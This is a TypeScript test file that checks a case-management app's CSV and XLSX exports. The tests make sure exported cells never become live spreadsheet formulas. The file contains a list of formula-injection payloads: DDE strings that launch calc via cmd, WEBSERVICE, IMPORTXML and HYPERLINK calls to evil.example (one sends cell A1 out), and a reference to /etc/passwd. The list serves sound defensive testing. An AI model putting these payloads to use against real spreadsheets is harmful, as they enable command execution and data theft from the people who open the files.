import { cases } from '@casekit/contract/overview'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { makeCompany, makeStaff, type TestStaff } from '../../../../tests/support/people.ts'
import { type TestProvider, testProvider } from '../../../../tests/support/provider.ts'
import { readCsv, readSheet } from '../../../../tests/support/read-tables.ts'

const FORMS = [
  '=1+1',
  '+1',
  '+4522334455',
  '-1',
  '-2+3',
  '@SUM(A1:A9)',
  "=cmd|'/c calc'!A0",
  "+cmd|'/c calc'!A0",
  "-cmd|'/c calc'!A0",
  "@cmd|'/c calc'!A0",
  '=HYPERLINK("https://evil.example";"Klik")',
  '=HYPERLINK("https://evil.example/?x="&A1,"Klik")',
  '=WEBSERVICE("https://evil.example")',
  '=IMPORTXML("https://evil.example","//a")',
  '=IMPORTDATA("https://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  "='file:///etc/passwd'#$passwd.A1",
  "=2+5+cmd|' /C calc'!A0",
  '=SUM(1;2)',
  '=A1',
  '==1',
  '=-1',
  '=@A1',
  '{=SUM(A1:A2)}',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '   =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '|calc',
  '%0A=1+1',
  '";=1+1;"',
  'Tekst\r\n=1+1',
  "'=1+1",
]

const COLUMNS = ['title', 'customerName', 'requisitionNumber', 'reference', 'channel'] as const

let provider: TestProvider
let mine: TestStaff

beforeAll(async () => {
  provider = await testProvider()
  const company = await makeCompany(provider.pool)
  mine = await makeStaff(provider.pool, company.id)
  await provider.db(company.id).rows(
    `with form as (select form, place::int, casekit.new_id() as customer from unnest($2::text[]) with ordinality as t (form, place)),
       customers as (insert into casekit.customer (company_id, id, number, name) select $1, customer, place, form from form)
     insert into casekit.cases (company_id, id, number, title, description, status, customer_id, requisition_number, reference, channel)
     select $1, casekit.new_id(), place, form, '', 'Open', customer, form, form, form from form`,
    [company.id, FORMS],
  )
})
afterAll(() => provider.close())

async function exported(format: 'csv' | 'xlsx'): Promise<Buffer> {
  const answer = await provider.app.inject({
    method: 'POST',
    url: `${cases.export.path}?format=${format}`,
    headers: { authorization: mine.as },
    payload: {
      sortModel: [{ colId: 'caseNumber', sort: 'asc' }],
      filterModel: {},
      columns: COLUMNS.map(name => ({ name, heading: `=${name}` })),
    },
  })
  expect(answer.statusCode).toBe(200)
  return answer.rawPayload
}

const expected = [COLUMNS.map(name => `=${name}`), ...FORMS.map(form => COLUMNS.map(() => form))]

test('an XLSX file has the texts of every column as they are, and not one formula', async () => {
  const rows = readSheet(await exported('xlsx'))
  expect(rows.flat().filter(({ isFormula }) => isFormula)).toEqual([])
  expect(rows.map(row => row.map(({ text }) => text))).toEqual(expected)
})

const BEGINS_FORMULA = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u

test('a CSV file has them behind an apostrophe, which spreadsheets take for »text«', async () => {
  const rows = readCsv(await exported('csv'))
  expect(rows.flat().filter(cell => BEGINS_FORMULA.test(cell))).toEqual([])
  const bare = rows.map(row => row.map(cell => cell.replace(/^'/, '')))
  expect(bare).toEqual(expected)
})
